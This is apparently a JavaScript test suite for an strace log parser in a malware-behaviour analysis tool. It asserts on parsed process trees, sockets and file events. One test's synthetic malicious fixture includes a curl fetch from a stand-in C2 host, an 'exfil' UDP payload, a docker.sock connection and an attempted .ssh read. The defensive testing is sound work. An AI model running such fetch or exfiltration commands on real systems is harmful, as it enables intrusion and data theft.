import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { parseStrace, mergePerPidLogs } from '../src/dynamic/strace/parse.js';
const root = fileURLToPath(new URL('../../', import.meta.url));
const fixture = (name) => readFileSync(`${root}test/fixtures/strace/${name}`, 'utf8');
test('recorded Go program: exec chain, thread mapping, failed exec, truncated argv', () => {
    const t = parseStrace(fixture('go-exec-net-files.log'));
    assert.equal(t.unparsed.length, 0);
    assert.equal(t.timeFormat, 'clock');
    // Go threads 8711-8713 fold into process 8710.
    const pids = t.processes.map((p) => p.pid);
    assert.ok(!pids.includes(8711) && !pids.includes(8712) && !pids.includes(8713));
    const root = t.processes.find((p) => p.pid === 8710);
    assert.equal(root.ppid, 0);
    assert.equal(root.exitCode, 3);
    const sh = t.processes.find((p) => p.execs[0]?.path === '/bin/sh');
    assert.deepEqual(sh.execs[0].argv, ['/bin/sh', '-c', 'id; uname -a']);
    assert.equal(sh.ppid, 8710);
    const id = t.processes.find((p) => p.execs[0]?.path === '/usr/bin/id');
    assert.equal(id.ppid, sh.pid);
    const echo = t.processes.find((p) => p.execs[0]?.path === '/bin/echo');
    assert.deepEqual(echo.execs[0].argv.slice(0, 4), ['/bin/echo', 'quote"d', 'new\nline', 'tab\there']);
    assert.deepEqual([...Buffer.from(echo.execs[0].argv[4], 'utf8')].slice(0, 1), [1]);
    assert.equal(echo.execs[0].argv[5].length, 512);
    assert.equal(echo.execs[0].argvTruncated, true);
    const missing = t.processes.find((p) => p.execs[0]?.path === '/nonexistent/binary');
    assert.equal(missing.execs[0].ok, false);
    assert.equal(missing.execs[0].errno, 'ENOENT');
    assert.equal(missing.exitCode, 253);
    const many = t.processes.find((p) => p.execs[0]?.path === '/bin/true');
    assert.equal(many.execs[0].argv.length, 41);
    assert.equal(many.execs[0].argvTruncated, false);
    assert.deepEqual(root.execs[0].env, ['PATH=/usr/bin:/bin', 'HOME=/root']);
});
test('recorded Go program: sockets, protocols, refused/in-progress connects, files', () => {
    const t = parseStrace(fixture('go-exec-net-files.log'));
    const connects = t.events.filter((e) => e.kind === 'connect');
    const summary = connects.map((c) => `${c.proto} ${c.addr.ip ?? c.addr.path}:${c.addr.port ?? ''} ${c.ok} ${c.errno ?? ''}`.trim());
    assert.deepEqual(summary.slice(0, 6), [
        'tcp 127.0.0.1:35899 true EINPROGRESS',
        'tcp 127.0.0.1:1 true EINPROGRESS',
        'tcp ::1:1 true EINPROGRESS',
        'udp 127.0.0.1:53 true',
        'unix /tmp/gosnare-fake-docker.sock: false ENOENT',
        'unix /var/run/nscd/socket: false ENOENT',
    ]);
    const send = t.events.find((e) => e.kind === 'send');
    assert.equal(send.proto, 'udp');
    assert.equal(send.data.toString('latin1'), 'hello\x00\x01');
    assert.deepEqual(send.addr, { family: 'ipv4', ip: '127.0.0.1', port: 9 });
    const files = t.events.filter((e) => e.kind === 'file' && e.path.startsWith('/tmp/gosnare-rec'));
    assert.deepEqual(files.map((f) => `${f.op} ${f.path}${f.to ? ' -> ' + f.to : ''}`), [
        'write /tmp/gosnare-rec-a.txt',
        'read /tmp/gosnare-rec-a.txt',
        'chmod /tmp/gosnare-rec-a.txt',
        'rename /tmp/gosnare-rec-a.txt -> /tmp/gosnare-rec-b.txt',
        'delete /tmp/gosnare-rec-b.txt',
        'write /tmp/gosnare-rec-c.txt',
        'delete /tmp/gosnare-rec-c.txt',
    ]);
    const ssh = t.events.find((e) => e.kind === 'file' && e.path.includes('.ssh'));
    assert.equal(ssh.op, 'read');
    assert.equal(ssh.ok, false);
});
test('-s 32 without -v: truncated strings, elided argv, env as address', () => {
    const t = parseStrace(fixture('go-short-strings-nov.log'));
    assert.equal(t.unparsed.length, 0);
    const many = t.processes.find((p) => p.execs[0]?.path === '/bin/true');
    assert.equal(many.execs[0].argvTruncated, true);
    assert.equal(many.execs[0].argv.length, 32);
    assert.equal(many.execs[0].env, undefined);
});
test('bash: fork without CLONE_THREAD makes processes; SIGKILL exit; subshell parentage', () => {
    const t = parseStrace(fixture('bash-fork-kill.log'));
    const sleep = t.processes.find((p) => p.execs[0]?.path === '/usr/bin/sleep');
    assert.equal(sleep.exitSignal, 'SIGKILL');
    assert.equal(sleep.exitCode, undefined);
    // sleep was started by the subshell (8797), which bash (8794) forked.
    assert.equal(sleep.ppid, 8797);
    assert.equal(t.processes.find((p) => p.pid === 8797)?.ppid, 8794);
    assert.equal(t.processes.find((p) => p.pid === 8794)?.exitCode, 4);
});
test('clone3 with => output, sendmsg payload, exec in place', () => {
    const t = parseStrace(fixture('python-clone3-sendmsg.log'));
    assert.deepEqual(t.processes.map((p) => p.pid), [9196, 9198]);
    const py = t.processes[0];
    assert.deepEqual(py.execs.map((e) => e.argv[0]), ['python3', 'true']);
    assert.ok(py.tids.includes(9197));
    const send = t.events.find((e) => e.kind === 'send');
    assert.equal(send.syscall, 'sendmsg');
    assert.equal(send.data.toString(), 'ping');
    assert.equal(send.addr?.port, 9);
});
test('thread exec: superseded line moves the pending execve to the leader', () => {
    const t = parseStrace(fixture('go-thread-exec-superseded.log'));
    assert.equal(t.unparsed.length, 0);
    assert.deepEqual(t.processes.map((p) => p.pid), [9247]);
    assert.deepEqual(t.processes[0].execs.map((e) => [e.path, e.ok]), [
        ['./prog2/prog2', true],
        ['/bin/true', true],
    ]);
    assert.equal(t.processes[0].exitCode, 0);
});
test('[pid N] prefixes to stderr with attach messages inside lines', () => {
    const t = parseStrace(fixture('sh-pid-prefix-stderr.log'));
    assert.equal(t.unparsed.length, 0);
    assert.deepEqual(t.processes.map((p) => [p.pid, p.ppid, p.execs[0]?.argv.join(' ')]), [
        [8804, 0, '/bin/sh -c id -u; /bin/true'],
        [8805, 8804, 'id -u'],
        [8806, 8804, '/bin/true'],
    ]);
});
test('synthetic malicious log with -ttt: reserved destinations, raw socket, execveat, elided argv, garbage kept', () => {
    const t = parseStrace(fixture('synthetic-malicious-ttt.log'));
    assert.equal(t.timeFormat, 'epoch');
    assert.equal(t.firstTs, 1764037200.0001);
    assert.equal(t.unparsed.length, 1);
    assert.match(t.unparsed[0].text, /garbage/);
    const c2 = t.events.find((e) => e.kind === 'connect' && e.addr.ip === '203.0.113.7');
    assert.equal(c2.pid, 100);
    assert.equal(c2.tid, 101);
    assert.equal(c2.ok, true);
    const v6 = t.events.find((e) => e.kind === 'connect' && e.addr.family === 'ipv6');
    assert.equal(v6.ok, false);
    const docker = t.events.find((e) => e.kind === 'connect' && e.addr.path === '/var/run/docker.sock');
    assert.ok(docker);
    const udp = t.events.find((e) => e.kind === 'send' && e.syscall === 'sendto');
    assert.equal(udp.data.toString('latin1'), '\x01\x02exfil\\data"q');
    const mapped = t.events.find((e) => e.kind === 'send' && e.syscall === 'sendmsg');
    assert.deepEqual(mapped.addr, { family: 'ipv4', ip: '203.0.113.8', port: 53 });
    const id = t.processes.find((p) => p.execs[0]?.path === '/usr/bin/id');
    assert.equal(id.ppid, 102);
    const curl = t.processes.find((p) => p.pid === 104);
    assert.deepEqual(curl.execs[0].argv, ['curl', '-s', 'http://c2.evil-example.test/x']);
    assert.equal(curl.execs[0].argvTruncated, true);
    assert.equal(curl.execs[0].ok, false);
    assert.equal(curl.exitCode, 127);
    assert.equal(t.processes.find((p) => p.pid === 100)?.exitSignal, 'SIGKILL');
    const raw = t.events.find((e) => e.kind === 'socket' && e.type === 'SOCK_RAW');
    assert.equal(raw?.kind === 'socket' && raw.errno, 'EPERM');
});
test('-ff per-pid logs merge by time', () => {
    const merged = mergePerPidLogs([
        { pid: 1, text: '1.000001 clone(child_stack=NULL, flags=SIGCHLD) = 2\n1.000009 exit_group(0) = ?\n1.000010 +++ exited with 0 +++\n' },
        { pid: 2, text: '1.000005 execve("/bin/id", ["id"], []) = 0\n1.000006 +++ exited with 0 +++\n' },
    ].map((l) => ({ pid: l.pid, text: l.text.replace(/^1\./gm, '1764037200.') })));
    const t = parseStrace(merged);
    assert.deepEqual(t.processes.map((p) => [p.pid, p.ppid, p.execs[0]?.path]), [
        [1, 0, undefined],
        [2, 1, '/bin/id'],
    ]);
});
//# sourceMappingURL=strace-parse.test.js.map